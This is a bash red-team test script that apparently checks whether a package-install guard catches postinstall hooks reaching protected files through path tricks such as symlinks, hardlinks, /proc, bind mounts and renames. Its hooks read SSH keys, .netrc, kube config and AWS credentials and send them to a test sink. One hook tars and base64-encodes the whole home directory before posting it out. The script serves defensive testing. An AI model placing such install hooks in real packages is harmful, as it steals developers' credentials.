#!/bin/bash
# R35: one protected file under many names: links, /proc, directory descriptors, renames,
# namespaces, a copy of the home.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R35 'path tricks'
ways=(symlink hardlink procroot proccwd dirfd fchdir relative dots rename rename-dir reopen bind
	bind-file chroot scm pidfd)
[ -z "${QUICK:-}" ] || ways=(symlink hardlink procroot dirfd relative rename-dir bind)
# The modes that rename have their own target: on watch the rename happens before the kill, and the
# file keeps its new name.
declare -A target=([rename]=.netrc [rename-dir]=.kube/config)
RT_SCOPES=2
for way in "${ways[@]}"; do
	rt_package "path-$way-x" 1.0.0 - postinstall \
		"./bin/open $way ~/${target[$way]:-.ssh/id_ed25519} $RT_SINK; true" open
done
rt_package path-tar-x 1.0.0 files postinstall \
	'tar -cf - --exclude=.npm --exclude=work -C ~ . 2>&- | base64 -w0 | node post-stdin.js'
rt_package path-copy-x 1.0.0 files postinstall \
	'cp -R ~/.aws copied && cat copied/credentials | node post-stdin.js; rm -rf copied; true'

rt_control
rt_leaked .ssh/id_ed25519 .kube/config .aws/credentials .vault-token
rt_is 'ways that worked' "$(lab_sink web connections)" "$((${#ways[@]} + 2))"

if rt_guarded; then
	rt_stopped
	for way in "${ways[@]}" tar copy; do
		case $way in
		# for the rename itself
		rename*) rt_accused "path-$way-x" '^(secrets|destruction)$' ;;
		# for the mount
		bind* | chroot) rt_withheld "path-$way-x" no-namespaces '^(secrets|escape)$' ;;
		tar) rt_withheld "path-$way-x" home-hidden '^secrets$' ;;
		*) rt_accused "path-$way-x" '^secrets$' ;;
		esac
	done
fi
rt_end
